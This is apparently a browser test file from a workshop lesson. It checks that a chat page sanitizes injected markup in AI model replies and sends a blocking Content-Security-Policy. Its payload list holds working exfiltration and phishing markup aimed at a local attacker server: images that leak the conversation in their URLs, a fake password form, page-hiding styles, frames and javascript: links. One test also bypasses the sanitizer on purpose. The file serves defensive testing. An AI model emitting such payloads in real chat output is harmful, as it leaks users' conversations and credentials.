// Issue 11 §5, in Chromium: model output that tries to inject page content.
// No script is needed to hurt: an image that loads by itself leaks the
// conversation in its URL, a form asks for a password, a <style> hides the
// page. The sanitizer stops them, and the page's Content-Security-Policy
// would stop them even if the sanitizer missed.
import { createServer } from "node:http";
import { fileURLToPath } from "node:url";
import {
  type BrowserContext,
  describeInBrowser,
  type Page,
  type RunningPage,
  startPage,
  startServer,
} from "@workshop/testkit";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import { startLesson } from "./start.ts";

const root = fileURLToPath(new URL("..", import.meta.url));
let lesson: Awaited<ReturnType<typeof startLesson>>;
let site: RunningPage;
let attacker: Awaited<ReturnType<typeof startServer>>;
const stolen: string[] = []; // every request the attacker's server receives

beforeAll(async () => {
  lesson = await startLesson();
  site = await startPage(root, lesson.url);
  attacker = await startServer(
    createServer((req, res) => {
      stolen.push(`${req.method} ${req.url}`);
      res.writeHead(200, { "Content-Type": "image/png", "Access-Control-Allow-Origin": "*" }).end();
    }),
  );
});
afterAll(async () => {
  await attacker?.close();
  await site?.close();
  await lesson?.close();
});

const payloads = (evil: string) => [
  `![chart](${evil}/track.png?leak=the+whole+conversation)`,
  `![ref][r]\n\n[r]: ${evil}/ref.png?leak=1`,
  `<img src="${evil}/raw.png?leak=1">`,
  `<picture><source srcset="${evil}/srcset.png"><img src="${evil}/pic.png"></picture>`,
  `<form action="${evil}/steal" method="post"><p>Session expired. Password:</p><input type="password" name="p"><button>Log in</button></form>`,
  `<style>body{display:none} .chat{background:url(${evil}/css.png)}</style>`,
  `<div style="background:url(${evil}/inline.png)">styled</div>`,
  `<svg><image href="${evil}/svg.png"/></svg>`,
  `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">`,
  `<link rel="stylesheet" href="${evil}/sheet.css"><video poster="${evil}/poster.png"></video>`,
  `[click me](javascript:alert(1)) [data](data:text/html,hi) <a href="javascript:alert(1)">x</a>`,
  `**<img src="${evil}/nested.png">** > <input type="image" src="${evil}/input.png">`,
  `[a real link](${evil}/docs)`,
];

describeInBrowser("lesson 04's page against injected content", (browser) => {
  let page: Page;
  let context: BrowserContext; // one for the file: its tabs share the HTTP cache
  beforeAll(async () => {
    context = await browser().newContext();
  });
  afterAll(() => context.close());
  beforeEach(async () => {
    stolen.length = 0;
    page = await context.newPage();
    await page.goto(site.url);
  });
  afterEach(async () => {
    await page.close();
  });

  it("renders hostile replies with no image, form, style, frame or script link, and the attacker's server gets 0 requests", async () => {
    for (const [i, payload] of payloads(attacker.url).entries()) {
      await page.fill("#input", `echo: ${payload}`);
      await page.press("#input", "Enter");
      await page.waitForFunction(
        (n) => document.querySelectorAll(".message.assistant .meta").length >= n,
        i + 1,
      );
    }
    // Requests the page started before this round trip have reached the server by its end.
    await page.evaluate(() => fetch("/api/health"));
    const answers = page.locator(".message.assistant .body");
    const forbidden =
      "img, picture, source, form, input, button, style, svg, iframe, object, embed, link, video";
    expect(await answers.locator(forbidden).count()).toBe(0);
    expect(await answers.locator("[style]").count()).toBe(0);
    const hrefs = await answers
      .locator("a")
      .evaluateAll((links) =>
        links.map((a) => ({ href: a.getAttribute("href"), rel: a.getAttribute("rel") })),
      );
    for (const { href, rel } of hrefs) {
      if (href !== null) expect(href).toMatch(/^(https?|mailto):/);
      expect(rel).toBe("noopener noreferrer");
    }
    expect(hrefs.some((link) => link.href === `${attacker.url}/docs`)).toBe(true); // links still work
    expect(await answers.getByText("🖼 chart (not loaded)").count()).toBe(1); // an image became a link
    expect(await page.isVisible(".chat")).toBe(true); // no style hid the page
    expect(stolen).toEqual([]);
  });

  it("is served with a Content-Security-Policy that blocks what a sanitizer might miss", async () => {
    const response = await page.goto(site.url);
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("img-src 'self' data:");
    expect(policy).toContain("form-action 'none'");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).not.toContain("unsafe-inline");
    // Bypass the sanitizer on purpose: the browser itself refuses the loads.
    const blocked = await page.evaluate(async (evil) => {
      const image = document.createElement("img");
      const loaded = new Promise<string>((resolve) => {
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("blocked");
      });
      image.src = `${evil}/bypass.png`;
      document.body.append(image);
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);
      const fetched = await fetch(`${evil}/beacon`, { mode: "no-cors" }).then(
        () => "sent",
        () => "blocked",
      );
      return { image: await loaded, fetched, bodyShown: getComputedStyle(document.body).display !== "none" };
    }, attacker.url);
    expect(blocked).toEqual({ image: "blocked", fetched: "blocked", bodyShown: true });
    expect(stolen).toEqual([]);
  });
});
